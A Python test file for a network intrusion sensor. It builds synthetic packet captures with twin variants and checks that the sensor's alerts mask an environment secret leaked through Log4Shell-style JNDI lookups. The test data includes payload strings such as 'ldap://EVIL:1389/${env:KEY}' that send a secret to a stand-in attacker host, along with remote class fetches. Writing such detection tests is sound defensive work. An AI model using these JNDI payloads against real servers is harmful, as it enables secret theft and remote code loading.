#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""leaks.py SENSOR: which values of a victim come back, where, and to which variable they belong.

Each row is a capture, with a twin that differs in the one thing that makes the difference. No value may stand in any alert
that is written when it is known, in whichever coding it was sent; with correlate.show-secrets all of them do.
"""
import json
import pathlib
import sys
import tempfile

import sensor as lab
from tale import EVIL, OTHER, RESOLVER, Tale, VICTIM

VALUE = "s3cret value"
FOUND = ("env:KEY", "s***e", "http.uri")
DN = ("env:KEY", "s***e", "ldap.dn")
TABLE = []


def row(name, expected, twin):
    """expected, twin: (variable, value as it is shown, place) of all that leaked, in the order in which it was learned."""
    def register(writer):
        TABLE.append((name, writer, expected, twin))
        return writer
    return register


@row("the codebase has the value in its path", [DN, FOUND], [DN])
def codebase(tale, twin):
    tale.lookup("ldap://%s:1389/${env:KEY}" % EVIL)
    tale.search(VALUE, codebase="http://%s:8888/%s/" % (EVIL, "static" if twin else VALUE.replace(" ", "%20")))
    tale.fetch(path="/static/P.class" if twin else "/s3cret%20value/P.class")


@row("the value as a word, not within one", [DN, FOUND], [DN])
def word(tale, twin):
    tale.lookup("ldap://%s:1389/${env:KEY}" % EVIL)
    tale.search(VALUE, codebase="http://%s:8888/" % EVIL)
    tale.fetch(path="/x?v=%ss3cret%%20value" % ("a" if twin else ""))


@row("a class that is not there is asked for all the same", [DN, FOUND], [DN])
def missing(tale, twin):
    tale.lookup("ldap://%s:1389/${env:KEY}" % EVIL)
    tale.search(VALUE, codebase="http://%s:8888/" % EVIL)
    tale.missing(path="/%s/P.class" % ("x" if twin else "s3cret%20value"))


@row("the directory is asked inside TLS, and only the fetch shows the value", [FOUND], [])
def hidden(tale, twin):
    tale.lookup("ldaps://%s:1636/app/${env:KEY}" % EVIL)
    tale.fetch(path="/cb/%s/s3cret%%20value/P.class" % ("lib" if twin else "app"))


@row("a name of the callback's domain is fetched by way of a proxy", [("env:KEY", "t***t", "http.uri")], [])
def proxied(tale, twin):
    tale.lookup("ldaps://${env:KEY}.evil.example:1636/a")
    tale.fetch(server="10.0.0.33", port=3128, path="http://%s/P.class", host="tomcat.%s.example:8888" % ("other" if twin else "evil"))


@row("the name of a lookup without an expression tells of nobody", [DN, FOUND], [])
def constant(tale, twin):
    tale.lookup("ldap://%s:1389/%s" % (EVIL, VALUE if twin else "${env:KEY}"))
    tale.search(VALUE, codebase="http://%s:8888/" % EVIL)
    tale.fetch(path="/s3cret%20value/P.class")


def judge(program, path, expected):
    lines = []
    for shown in (False, True):
        text = lab.replay(program, path, extra=("-s", str(lab.TOP / "rules/incidents.rules"),
                                                "--set", "correlate.show-secrets=%s" % ("yes" if shown else "no")))
        stories = list(lab.incidents(text).values())
        leaks = [leak for story in stories for leak in story.get("leaks", [])]
        found = [(leak["variable"], leak["value"], leak["place"]) for leak in leaks]
        if not shown and found != expected:
            lines.append("expected %s, found %s in %s" % (expected, found, stories))
        if shown and leaks and not all(leak["value"] in (VALUE, "tomcat") for leak in leaks):
            lines.append("not shown: %s" % leaks)
        known = False  # from the first alert on that has a leak, nothing may show its value
        for line in text.splitlines() if not shown else []:
            event = json.loads(line)
            known = known or "leaks" in lab.facts(event).get("incident", {}) if event["event_type"] == "alert" else known
            if known and event["event_type"] == "alert" and any(word in line for word in (VALUE, "s3cret%20value")):
                lines.append("shown: %s" % line)
    return lines


def main():
    program, bad = sys.argv[1], []
    with tempfile.TemporaryDirectory() as folder:
        for name, writer, expected, twin in TABLE:
            for wanted, is_twin in ((expected, False), (twin, True)):
                tale, path = Tale(), pathlib.Path(folder) / "leak.pcap"
                writer(tale, is_twin)
                tale.write(path)
                bad += ["%s%s: %s" % (name, ", the twin" if is_twin else "", line) for line in judge(program, path, wanted)]
    if bad:
        sys.exit("\n".join(bad))
    print("%d rows and their twins" % len(TABLE))


if __name__ == "__main__":
    main()
